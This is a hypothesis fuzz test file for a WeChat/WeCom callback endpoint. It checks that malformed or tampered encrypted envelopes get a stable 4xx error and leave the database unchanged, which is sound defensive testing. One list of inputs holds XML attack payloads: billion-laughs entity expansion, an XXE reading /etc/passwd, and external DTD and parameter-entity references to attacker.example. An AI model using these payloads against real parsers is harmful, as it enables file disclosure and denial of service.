"""Malformed callbacks (hypothesis): always a 4xx with a stable error code, never a 5xx, never a row.

Each example starts from a real envelope (gateway.wechat.crypto, the channel's own token and
EncodingAESKey) and breaks one thing: the signature, the base64, the padding, the receive id, the
size, the XML (DTDs, entities) or the content type. GET URL checks get garbage too. Every table is
counted before and after each request. A correctly signed envelope around a bad document is not
refused but kept as rejected: tests/reliability/test_hostile_fields.py.
"""

from __future__ import annotations

import base64
import os
import struct
import time

import pytest
from Crypto.Cipher import AES
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from gateway.api.callbacks import MAX_CALLBACK_BODY
from gateway.wechat.crypto import WeChatCrypto, decode_aes_key, sha1_signature
from gateway.wechat.xmlmsg import build_xml
from tests.harness import AES_KEY
from tests.reliability.conftest import APPID, CORP, Rig, table_counts

WECOM_TOKEN, MP_TOKEN = "CallbackToken1", "MpToken1"  # tests.harness defaults
STABLE_CODES = {
    "callback_bad_signature",
    "callback_bad_xml",
    "callback_bad_receive_id",
    "callback_decrypt_failed",
    "callback_bad_buffer",
    "callback_bad_base64",
    "payload_too_large",
    "method_not_allowed",
    "channel_not_found",
}
FUZZ = settings(
    max_examples=60,
    derandomize=True,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)

ENTITY_BODIES = [
    # billion laughs
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><xml><ToUserName>&lol3;</ToUserName><Encrypt>x</Encrypt></xml>',
    # external entity (XXE)
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<xml><ToUserName>&xxe;</ToUserName><Encrypt>x</Encrypt></xml>",
    # external DTD
    '<?xml version="1.0"?><!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml><Encrypt>x</Encrypt></xml>',
    # parameter entity
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><xml/>',
    # a bare DOCTYPE
    "<!DOCTYPE xml><xml><Encrypt>x</Encrypt></xml>",
]
CONTENT_TYPES = [
    "text/xml; charset=utf-8",
    "application/json",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=xyz",
    "text/plain",
    "application/octet-stream",
    "text/xml; charset=gbk",
    "",
]


class Channels:
    """The two channels' ids and crypto, as the platform would use them."""

    def __init__(self, wecom: int, mp: int) -> None:
        self.ids = {"wecom": wecom, "mp": mp}
        self.crypto = {
            "wecom": WeChatCrypto(WECOM_TOKEN, AES_KEY, CORP),
            "mp": WeChatCrypto(MP_TOKEN, AES_KEY, APPID),
        }


def inner(kind: str) -> str:
    if kind == "wecom":
        return build_xml(
            {
                "ToUserName": CORP,
                "CreateTime": 1700000000,
                "MsgType": "event",
                "Event": "kf_msg_or_event",
                "Token": "ENCtoken",
                "OpenKfId": "wkFUZZ",
            }
        )
    return build_xml(
        {
            "ToUserName": "gh_oa",
            "FromUserName": "oFUZZ",
            "CreateTime": 1700000000,
            "MsgType": "text",
            "Content": "hello",
            "MsgId": "123456789",
        }
    )


def signed(kind: str, ch: Channels, encrypt: str, timestamp: str | None = None, nonce: str = "4242") -> tuple:
    """(query, body) of an envelope around `encrypt`, signed as the platform signs it (now, by default)."""
    timestamp = timestamp or str(int(time.time()))
    crypto = ch.crypto[kind]
    query = {"msg_signature": crypto.signature(timestamp, nonce, encrypt), "timestamp": timestamp, "nonce": nonce}
    if kind == "mp":
        token = MP_TOKEN
        query |= {"signature": sha1_signature(token, timestamp, nonce), "encrypt_type": "aes", "openid": "oFUZZ"}
    body = build_xml({"ToUserName": CORP if kind == "wecom" else "gh_oa", "Encrypt": encrypt})
    return query, body.encode()


def bad_padding(receive_id: str, pad: int) -> str:
    """A correctly encrypted message whose PKCS#7 padding is wrong (pad byte `pad`)."""
    key = decode_aes_key(AES_KEY)
    msg = b"<xml><MsgType>text</MsgType></xml>"
    body = os.urandom(16) + struct.pack(">I", len(msg)) + msg + receive_id.encode()
    fill = 32 - len(body) % 32
    body += bytes([fill]) * (fill - 1) + bytes([pad if pad != fill else 0])
    return base64.b64encode(AES.new(key, AES.MODE_CBC, iv=key[:16]).encrypt(body)).decode()


@st.composite
def malformed(draw: st.DrawFn, ch: Channels) -> tuple[str, str, dict, bytes, str]:
    """(method, kind, query, body, content type) of a callback with one thing wrong."""
    kind = draw(st.sampled_from(["wecom", "mp"]))
    crypto = ch.crypto[kind]
    receive_id = CORP if kind == "wecom" else APPID
    good = crypto.encrypt(inner(kind))
    what = draw(
        st.sampled_from(
            [
                "signature",
                "truncated",
                "garbage_b64",
                "padding",
                "receive_id",
                "huge",
                "entities",
                "content_type",
                "get",
                "random_body",
                "no_query",
            ]
        )
    )
    event(f"{kind}: {what}")
    content_type = "text/xml; charset=utf-8"
    method = "POST"
    if what == "signature":
        query, body = signed(kind, ch, good)
        key = draw(st.sampled_from(["msg_signature", "signature"] if kind == "mp" else ["msg_signature"]))
        query[key] = draw(st.one_of(st.text(max_size=60), st.text("0123456789abcdef", min_size=40, max_size=40)))
    elif what == "truncated":
        query, body = signed(kind, ch, good[: draw(st.integers(0, len(good) - 1))])
    elif what == "garbage_b64":
        junk = draw(
            st.one_of(
                st.text(alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=", max_size=200),
                st.text(max_size=100).filter(lambda t: "]]>" not in t),
                st.binary(max_size=64).map(lambda b: base64.b64encode(b).decode() + "="),
                st.binary(max_size=64).map(lambda b: base64.b64encode(b).decode().rstrip("=")),
            )
        )
        query, body = signed(kind, ch, junk)
    elif what == "padding":
        pad = draw(st.sampled_from([0, 33, 255, 7]))
        query, body = signed(kind, ch, bad_padding(receive_id, pad))
    elif what == "receive_id":
        other = draw(st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789", min_size=1, max_size=20))
        if other == receive_id:
            other += "x"
        query, body = signed(kind, ch, crypto.encrypt(inner(kind), receive_id=other))
    elif what == "huge":
        query, _ = signed(kind, ch, good)
        filler = b"A" * (MAX_CALLBACK_BODY + draw(st.integers(1, 4096)))
        body = b"<xml><Encrypt><![CDATA[" + filler + b"]]></Encrypt></xml>"
    elif what == "entities":
        query, _ = signed(kind, ch, good)
        body = draw(st.sampled_from(ENTITY_BODIES)).encode()
    elif what == "content_type":
        query, body = signed(kind, ch, good[:-4])
        content_type = draw(st.sampled_from(CONTENT_TYPES))
        body = draw(st.sampled_from([body, b'{"Encrypt": "' + good.encode() + b'"}', b"Encrypt=" + good.encode()]))
    elif what == "get":
        method, body = "GET", b""
        keys = ["msg_signature", "timestamp", "nonce", "echostr", "signature"]
        query = draw(st.dictionaries(st.sampled_from(keys), st.text(max_size=50), max_size=5))
        if kind == "wecom" and draw(st.booleans()):  # a signature that holds, over an echostr that is no ciphertext
            echostr = draw(st.text(alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=", max_size=80))
            query = {
                "msg_signature": crypto.signature("1", "2", echostr),
                "timestamp": "1",
                "nonce": "2",
                "echostr": echostr,
            }
    elif what == "random_body":
        query, _ = signed(kind, ch, good)
        body = draw(st.binary(max_size=300))
        content_type = draw(st.sampled_from(CONTENT_TYPES))
    else:  # a valid body without the query that signs it
        _, body = signed(kind, ch, good)
        query = {}
    return method, kind, query, body, content_type


@pytest.fixture
async def channels(rig: Rig) -> Channels:
    wecom = await rig.h.wecom_channel(token=WECOM_TOKEN)
    mp = await rig.h.mp_channel(appid=APPID, token=MP_TOKEN)
    return Channels(wecom, mp)


async def test_the_envelopes_the_fuzzer_breaks_are_accepted_intact(rig: Rig, channels: Channels) -> None:
    """The control: unbroken envelopes pass (so the 4xx answers below are about the breakage)."""
    for kind in ("wecom", "mp"):
        query, body = signed(kind, channels, channels.crypto[kind].encrypt(inner(kind)))
        response = await rig.h.client.post(f"/callbacks/{channels.ids[kind]}", params=query, content=body)
        assert (response.status_code, response.text) == (200, "success")


@given(data=st.data())
@settings(FUZZ, max_examples=200)
async def test_malformed_callbacks_get_a_stable_4xx_and_write_nothing(rig: Rig, channels: Channels, data) -> None:
    method, kind, query, body, content_type = data.draw(malformed(channels))
    before = await table_counts(rig.db)
    response = await rig.h.client.request(
        method,
        f"/callbacks/{channels.ids[kind]}",
        params=query,
        content=body or None,
        headers={"Content-Type": content_type} if content_type else {},
    )
    assert 400 <= response.status_code < 500, (response.status_code, response.text)
    assert response.json()["error"]["code"] in STABLE_CODES, response.text
    assert await table_counts(rig.db) == before


@given(
    channel_id=st.one_of(st.integers(-(2**70), 2**70), st.sampled_from([0, -1, 2**31, 2**63 - 1, 2**63, 2**64])),
    method=st.sampled_from(["GET", "POST"]),
)
@FUZZ
async def test_callbacks_for_channels_that_cannot_exist_are_404(
    rig: Rig, channels: Channels, channel_id: int, method: str
) -> None:
    if channel_id in channels.ids.values():
        channel_id = 10**6
    before = await table_counts(rig.db)
    response = await rig.h.client.request(method, f"/callbacks/{channel_id}", content=b"<xml/>")
    assert response.status_code == 404, (channel_id, response.status_code, response.text)
    assert response.json()["error"]["code"] in ("channel_not_found", "not_found")
    assert await table_counts(rig.db) == before
